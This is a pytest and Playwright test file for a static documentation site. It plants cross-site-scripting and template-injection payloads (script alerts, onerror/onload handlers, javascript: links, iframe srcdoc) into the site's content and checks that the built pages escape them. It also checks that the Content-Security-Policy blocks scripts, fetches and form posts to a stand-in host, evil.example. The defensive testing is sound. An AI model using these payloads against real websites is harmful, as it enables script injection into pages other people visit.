"""Foreign markup in any value or document stays text, in the files and in a browser."""

from __future__ import annotations

import shutil
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from hashlib import sha256
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Browser, Page

from atlas.assets import POLICY
from atlas.bench.browser import serve_folder
from tests.website import build_site

PROJECT = Path(__file__).parents[1]
PAYLOAD = (
    '</p></title></script><script>alert("pwned")</script><img src=x onerror=alert(1)>'
    "<svg onload=alert(2)><a href=javascript:alert(3)>x</a>\"'><iframe srcdoc='<p>'>"
    "{{ 7*7 }}{% raw %}[y](javascript:alert(4))"
)
QUOTE = "2022年10月1日,市人民医院启用新院区。"
ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc")
BARRED = ("iframe", "object", "embed", "base", "style")


def poison(value: Any, key: str = "") -> Any:
    """The data with the payload behind every text that readers see."""
    if isinstance(value, dict):
        spoilt = {name: poison(below, name) for name, below in value.items()}
        if set(value) == {"zh", "en"}:
            spoilt = {name: text + PAYLOAD for name, text in value.items()}
        return spoilt
    if isinstance(value, list):
        spoilt_list = [poison(below, key) for below in value]
        return [*value, f"{value[0]}{PAYLOAD}"] if key in ("words", "words_en") else spoilt_list
    if key == "body":
        return value + PAYLOAD
    if key == "quote" and value == QUOTE:
        return value + PAYLOAD
    return value


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini atlas, poisoned and built by the real MkDocs."""
    root = tmp_path_factory.mktemp("markup") / "atlas"
    shutil.copytree(PROJECT / "tests" / "mini", root)
    shutil.copytree(PROJECT / "theme", root / "theme")
    shutil.copytree(PROJECT / "content" / "pages", root / "content" / "pages")
    shutil.copy(PROJECT / "mkdocs.yml", root)
    seed = root / "seeds" / "yunshan.txt"
    old = sha256(seed.read_bytes()).hexdigest()
    text = seed.read_text("utf-8").replace(QUOTE, QUOTE + PAYLOAD)
    seed.write_text(PAYLOAD + "\n" + text + PAYLOAD + "\n", "utf-8")
    new = sha256(seed.read_bytes()).hexdigest()
    for path in (root / "content").rglob("*.yml"):
        data = poison(yaml.load(path.read_bytes(), Loader=yaml.BaseLoader))
        dumped = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)
        path.write_text(dumped.replace(old, new), "utf-8")
    build_site(root, root / "site")
    return root / "site"


DATA = "application/ld+json"  # a block of data, which no browser runs


class Foreign(HTMLParser):
    """What could run or load in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        runs = tag == "script" and not given.get("src") and given.get("type") != DATA
        # A base without address says where links open, and no more.
        if (tag in BARRED and (tag != "base" or "href" in given)) or runs:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            address = (value or "").strip().lower()
            bad = name in ADDRESSES and address.startswith(("javascript:", "data:", "vbscript:"))
            if name.startswith("on") or name == "style" or bad:
                self.found.append(f"<{tag} {name}={value}>")


def test_no_page_holds_live_foreign_markup(site: Path) -> None:
    escaped = 0
    for path in site.rglob("*.html"):
        text = path.read_text("utf-8")
        parser = Foreign()
        parser.feed(text)
        assert parser.found == [], path
        assert 'alert("pwned")</script>' not in text
        escaped += "&lt;script&gt;alert(" in text
        assert "49{%" not in text
    assert escaped > 20


def test_no_picture_and_no_feed_does_either(site: Path) -> None:
    charts = [*site.rglob("*.svg"), *site.rglob("*.xml")]
    assert len(charts) > 2
    for path in charts:
        for node in ET.parse(path).iter():
            name = str(node.tag).rpartition("}")[2]
            assert name not in ("script", "foreignObject", "iframe"), path
            assert [key for key in node.attrib if key.lower().startswith("on")] == []


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    page = browser.new_page()
    yield page
    page.close()


@pytest.fixture(scope="module")
def address(site: Path) -> Iterator[str]:
    with serve_folder(site) as address:
        yield address


@pytest.mark.browser
def test_nothing_foreign_runs_in_a_browser(site: Path, address: str, page: Page) -> None:
    told: list[str] = []
    page.on("dialog", lambda dialog: (told.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda one: told.append(one.text) if one.type == "error" else None)
    page.on("pageerror", lambda error: told.append(str(error)))
    for path in sorted(site.rglob("index.html")):
        page.goto(address + path.parent.relative_to(site).as_posix().removeprefix(".") + "/")
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
        assert page.locator("img[src='x'], iframe, svg[onload]").count() == 0, path
    page.goto(f"{address}search/?q=alert")
    page.wait_for_load_state("networkidle")
    assert page.locator("main img[src='x'], main iframe").count() == 0
    assert told == []


@pytest.mark.browser
def test_the_policy_allows_nothing_but_the_site_itself(address: str, page: Page) -> None:
    page.goto(address)
    assert (
        page.locator("meta[http-equiv=Content-Security-Policy]").get_attribute("content") == POLICY
    )
    blocked = page.evaluate(
        """async () => {
          const seen = new Set();
          const add = (event) => seen.add(event.effectiveDirective);
          document.addEventListener("securitypolicyviolation", add);
          const put = (tag, fields) => {
            const one = Object.assign(document.createElement(tag), fields);
            document.body.append(one);
            return one;
          };
          put("script", { textContent: "window.pwned = 1" });
          put("script", { src: "https://evil.example/a.js" });
          put("img", { src: "https://evil.example/a.png" });
          put("iframe", { src: "https://evil.example/" });
          put("object", { data: "https://evil.example/a" });
          put("video", { src: "https://evil.example/a.mp4" });
          put("link", { rel: "stylesheet", href: "https://evil.example/a.css" });
          put("div", {}).setAttribute("onclick", "window.pwned = 2");
          put("div", {}).setAttribute("style", "color: red");
          put("base", { href: "https://evil.example/" });
          put("a", { href: "javascript:window.pwned = 3" }).click();
          put("form", { action: "https://evil.example/", method: "post" }).submit();
          setTimeout(() => {
            try { new Function("window.pwned = 4")(); } catch { seen.add("eval"); }
          }, 0);
          await fetch("https://evil.example/").catch(() => seen.add("fetch"));
          await new Promise((done) => setTimeout(done, 300));
          return [...seen, String(window.pwned)];
        }"""
    )
    assert "undefined" in blocked
    wanted = {
        "script-src-elem",
        "script-src-attr",
        "style-src-elem",
        "style-src-attr",
        "img-src",
        "frame-src",
        "object-src",
        "media-src",
        "connect-src",
        "base-uri",
        "form-action",
    }
    assert wanted - set(blocked) == set()
    assert {"eval", "fetch"} <= set(blocked)


def test_the_policy_has_no_way_out() -> None:
    rules = dict(rule.strip().split(" ", 1) for rule in POLICY.split(";"))
    assert rules["default-src"] == "'none'"
    words = {word for value in rules.values() for word in value.split()}
    assert words == {"'none'", "'self'", "data:"}
    assert [name for name, value in rules.items() if "data:" in value] == ["img-src"]
